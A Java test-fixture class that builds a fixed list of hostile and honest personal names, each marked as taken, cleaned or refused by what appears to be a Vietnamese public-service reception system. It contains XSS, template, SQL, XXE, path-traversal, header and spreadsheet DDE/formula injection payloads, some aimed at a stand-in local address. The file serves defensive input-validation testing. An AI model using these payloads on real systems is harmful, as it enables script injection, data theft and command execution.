package vn.motcua;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

/**
 * Names that are more than names: markup, formulas, templates, directions, what nobody sees, control characters, stacked
 * marks, look-alikes and far too much of everything; and honest ones that look odd. Always the same ones.
 */
public final class HostileNames {

    /** Whether a reception may take the name of a person. */
    public enum Fate {
        TAKEN,
        /** Taken without what nobody sees, and with the letters of a keyboard. */
        CLEANED,
        REFUSED
    }

    /**
     * @param text as typed
     * @param fate what a reception makes of it
     */
    public record Name(String text, Fate fate) {

        /** As it can be shown in the message of a test. */
        public String shown() {
            StringBuilder shown = new StringBuilder();
            text.codePoints().limit(60).forEach(each -> {
                if (each >= ' ' && each < 0x2000 && Character.getType(each) != Character.NON_SPACING_MARK) {
                    shown.appendCodePoint(each);
                } else {
                    shown.append("\\u{%x}".formatted(each));
                }
            });
            return shown + (text.length() > 60 ? "… " + text.length() : "");
        }

        /** Whether a database can hold it: no NUL, no half of a character. */
        public boolean storable() {
            return text.indexOf('\0') < 0
                    && text.codePoints()
                            .noneMatch(each -> each >= Character.MIN_SURROGATE && each <= Character.MAX_SURROGATE);
        }
    }

    /** Which a name must be safe from: an address nobody may ask for. */
    public static final String OUTSIDE = "http://127.0.0.1:9";

    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<script src=OUTSIDE/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<img src=OUTSIDE/x.png>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)//",
            "<iframe src=OUTSIDE>",
            "<link rel=stylesheet href=OUTSIDE/x.css>",
            "<style>@import url(OUTSIDE/x.css)</style>",
            "<meta http-equiv=refresh content=\"0;url=OUTSIDE\">",
            "<base href=OUTSIDE/>",
            "<object data=OUTSIDE/x></object>",
            "<video poster=OUTSIDE/x.png>",
            "<form action=OUTSIDE><button>",
            "<input autofocus onfocus=alert(1)>",
            "<a href=javascript:alert(1)>An</a>",
            "<b>An</b>",
            "</p></div></body></html>",
            "</td></tr></table><h1>An",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "--><script>alert(1)</script>",
            "]]><script>alert(1)</script>",
            "<![CDATA[<b>]]>",
            "<!--",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
            "<?xml version=\"1.0\"?>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "` onclick=`alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;b&#62;",
            "&amp;",
            "\\u003cscript\\u003e",
            "%3Cscript%3E",
            "＜script＞alert(1)＜/script＞",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "@{OUTSIDE}",
            "~{fragments}",
            "__${T(java.lang.Runtime).getRuntime()}__::.x",
            "[[${7*7}]]",
            "[(${7*7})]",
            "{{7*7}}",
            "<%= 7*7 %>",
            "<th:block th:utext=\"${1}\">",
            "%s%n%x",
            "{0} {1}",
            "'; drop table dossier; --",
            "' or '1'='1",
            "An\r\nBcc: somebody@example.vn",
            "An\r\n\r\n<b>An</b>",
            "An\nEND:VEVENT\nBEGIN:VEVENT",
            "../../etc/passwd",
            "javascript:alert(1)");

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"OUTSIDE\";\"An\")",
            "=IMPORTXML(\"OUTSIDE\",\"//a\")",
            "=WEBSERVICE(\"OUTSIDE\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1+1",
            "-1+1",
            "-An",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "\"=1+1\"",
            "'=1+1",
            ";=1+1",
            ",=1+1",
            "An;=1+1",
            "An\",=1+1,\"");

    /** Turn text around, or are not seen at all. */
    private static final int[] UNSEEN = {
        0x200e, 0x200f, 0x061c, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200b, 0x200c,
        0x200d, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xfeff, 0x00ad, 0x034f, 0x115f, 0x1160, 0x3164, 0xffa0, 0x2800,
        0x180e, 0xfff9, 0xfffa, 0xfffb, 0xfffc, 0xe0001, 0xe0041, 0xe007f, 0x2028, 0x2029, 0x206a, 0x206f
    };

    /** Letters of other alphabets, and of ours in disguise: they look like a name that somebody else has. */
    private static final List<String> LOOK_ALIKES = List.of(
            "Nguyễn Văn Аn",
            "Тrần Thị Bê",
            "Nguyễn Văn Αn",
            "𝐍𝐠𝐮𝐲𝐞𝐧 Văn An",
            "Nguyễn Văn ⒶⓃ",
            "Nguyễn Vaᶰ An",
            "ﬁn An",
            "Ǆ An",
            "Nguyễn Văn Anª",
            "محمد",
            "שלום",
            "王小明",
            "ガン",
            "김철수",
            "สมชาย",
            "An محمد An",
            "ʻAn",
            "An😀",
            "😀",
            "An\u20e3",
            "An™");

    private static final List<String> HONEST = List.of(
            "Nguyễn Văn An",
            "Nguye\u0302\u0303n Thi\u0323 Ho\u0300a",
            "THUỶ THỦY THUÝ THÚY",
            "Y Moan Êban",
            "H'Hen Niê",
            "Y Thĭm Byă",
            "Ksor Hơ Bĭa",
            "Siu Blŏ",
            "Rơ Châm Phŭn",
            "Y Bhĭm Ƀuôn",
            "Sukarno",
            "O'Brien",
            "D’Arcy",
            "Jean-Luc Éric",
            "José María Ñúñez",
            "Søren Ærø",
            "Łukasz Żółć",
            "Ștefan Țepeș",
            "Ağrı Işık",
            "Ngô, Thị Bê",
            "J. R. Nguyễn",
            "An-",
            "An '.,-’",
            "null",
            "undefined",
            "NaN",
            "true",
            "CON",
            "nil",
            "Robert Drop Table",
            "script",
            "I",
            "A".repeat(120),
            "Ử".repeat(120));

    private HostileNames() {}

    /** At least five hundred of them, none twice. */
    public static List<Name> all() {
        Map<String, Fate> names = new LinkedHashMap<>();
        HONEST.forEach(name -> names.put(name, Fate.TAKEN));
        refused(names, spread(MARKUP));
        refused(names, FORMULAS);
        refused(names, FORMULAS.stream().map(each -> each + " An").toList());
        for (int each : UNSEEN) {
            String unseen = Character.toString(each);
            List.of(unseen + "Nguyễn Văn An", "Nguyễn Văn" + unseen + "An", "Nguyễn " + unseen + "naV nA")
                    .forEach(name -> names.putIfAbsent(name, Fate.CLEANED));
        }
        names.put("Ｎｇｕｙễｎ Văn An", Fate.CLEANED);
        IntStream.concat(IntStream.range(0, 0x20), IntStream.range(0x7f, 0xa0))
                .filter(each -> !Character.isWhitespace(each) && each != 0x85) // those are blanks to a name, at most
                .forEach(each -> refused(names, List.of("Nguyễn" + (char) each + " An")));
        for (String letter : List.of("a", "ê", "Z", "đ")) {
            for (int mark : new int[] {0x301, 0x323, 0x489, 0x20dd, 0x36f}) {
                for (int count : new int[] {8, 40, 110}) {
                    refused(
                            names,
                            List.of("An " + letter + Character.toString(mark).repeat(count)));
                }
            }
        }
        refused(names, LOOK_ALIKES);
        refused(
                names,
                List.of(
                        "\ud800",
                        "An \udc00",
                        "An\ud83d An",
                        "\uffff",
                        "An\ufffe",
                        "An\ufdd0",
                        "\ue000An",
                        "\udbff\udfffAn"));
        refused(names, List.of("", " ", "\u00a0", "-", "'", ".", "12345", "An 2", "٣ An", "\u0301An", "\u0301"));
        for (String much : List.of("x", "Ử", "An ", "<b>", "=1+", "\u202e", "a\u0301", "😀", "\"", "&")) {
            refused(names, List.of(much.repeat(10_000 / much.length()), much.repeat(1 + 400 / much.length())));
        }
        refused(names, List.of("A".repeat(121), "A ".repeat(61) + "A"));
        List<Name> all = new ArrayList<>();
        names.forEach((text, fate) -> all.add(new Name(text, fate)));
        return all;
    }

    /** Only what may reach paper. */
    public static List<Name> taken() {
        return all().stream().filter(name -> name.fate() == Fate.TAKEN).toList();
    }

    /** Alone, after a name, and within one. */
    private static List<String> spread(List<String> texts) {
        return texts.stream()
                .flatMap(text -> List.of(text, "Nguyễn Văn " + text, "Trần " + text + " An").stream())
                .toList();
    }

    private static void refused(Map<String, Fate> names, List<String> texts) {
        texts.forEach(text -> names.putIfAbsent(text.replace("OUTSIDE", OUTSIDE), Fate.REFUSED));
    }
}
